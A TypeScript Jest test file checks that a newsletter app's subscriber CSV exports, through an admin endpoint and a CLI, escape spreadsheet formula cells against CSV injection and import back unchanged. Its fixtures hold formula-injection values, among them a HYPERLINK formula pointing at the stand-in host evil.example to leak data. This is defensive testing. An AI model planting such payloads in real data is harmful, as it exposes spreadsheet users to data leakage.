import { afterAll, beforeAll, describe, expect, it, jest } from '@jest/globals';
import { parse } from 'csv-parse/sync';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { escapeFormula, unescapeFormula } from '../../src/subscribers/subscriber-csv.js';
import { adminHeaders, startApp, type TestApp } from '../support/app.js';
import { runCli } from '../support/cli.js';
import { postJson } from '../support/web.js';

// Three CLI runs, each booting the app: slow on a loaded machine.
jest.setTimeout(180_000);

let t: TestApp;
const dir = mkdtempSync(join(tmpdir(), 'paperboy-csv-'));
// What anyone can type into the subscribe form: keywords and addresses a spreadsheet would run.
const HOSTILE = [
  { email: '=1+1@example.org', keywords: '=HYPERLINK("http://evil.example/?leak","click")' },
  { email: '+cmd@example.org', keywords: '@SUM(1+1)' },
  { email: '-2+3@example.org', keywords: '-2 transformers' },
  { email: 'plain@example.org', keywords: "'=already quoted" },
];

beforeAll(async () => {
  t = await startApp({ SUBSCRIBE_LIMIT_PER_IP: '1000' });
  for (const s of HOSTILE) expect((await postJson(`${t.url}/api/subscriptions`, { ...s, topics: ['llm'] })).status).toBe(202);
});
afterAll(async () => {
  await t?.close();
  rmSync(dir, { recursive: true, force: true });
});

/** Every cell of the export that a spreadsheet would read as a formula. */
function formulaCells(csv: string): string[] {
  const rows = parse(csv, { relax_column_count: true }) as string[][];
  return rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell));
}

describe('CSV exports escape formula cells (OWASP)', () => {
  it('escape and unescape are inverses, also for values that already start with quotes', () => {
    for (const v of ['=A1', '+1', '-1', '@x', '\tx', '\rx', "'=x", "''+x", 'plain', "'plain", '', 'a=b']) {
      expect(unescapeFormula(escapeFormula(v))).toBe(v);
    }
    expect(escapeFormula('=A1')).toBe("'=A1");
    expect(escapeFormula('a=b')).toBe('a=b');
  });

  it('GET /api/admin/subscribers/export prefixes a single quote and quotes the cell', async () => {
    const res = await fetch(`${t.url}/api/admin/subscribers/export`, { headers: adminHeaders });
    expect(res.status).toBe(200);
    const csv = await res.text();
    expect(formulaCells(csv)).toEqual([]);
    expect(csv).toContain(`"'=1+1@example.org",llm,"'=HYPERLINK(""http://evil.example/?leak"",""click"")",daily,UTC,8,pending`);
    expect(csv).toContain(`"'+cmd@example.org",llm,"'@SUM(1+1)",`);
    expect(csv).toContain(`"'-2+3@example.org",llm,"'-2 transformers",`);
    expect(csv).toContain(`plain@example.org,llm,"''=already quoted",`);
  });

  it('paperboy subscribers export escapes the same way, and its output imports back unchanged', async () => {
    const env = { DATABASE_URL: t.databaseUrl, VAR_DIR: join(dir, 'var'), MAIL_TRANSPORT: `file:${join(dir, 'outbox')}` };
    const exported = await runCli(['subscribers', 'export'], env);
    expect(exported.code).toBe(0);
    expect(formulaCells(exported.stdout)).toEqual([]);
    expect(exported.stdout).toContain(`"'=1+1@example.org",llm,"'=HYPERLINK(""http://evil.example/?leak"",""click"")",`);
    const file = join(dir, 'export.csv');
    writeFileSync(file, exported.stdout);
    const imported = await runCli(['subscribers', 'import', file, '--json'], env);
    expect(JSON.parse(imported.stdout)).toMatchObject({ created: 0, updated: HOSTILE.length, rejected: [] });
    const list = (await (await fetch(`${t.url}/api/admin/subscribers`, { headers: adminHeaders })).json()) as { items: { email: string; keywords: string }[] };
    expect(list.items.map((s) => [s.email, s.keywords])).toEqual(HOSTILE.map((s) => [s.email, s.keywords]));
    expect((await runCli(['subscribers', 'export'], env)).stdout).toBe(exported.stdout);
  });
});
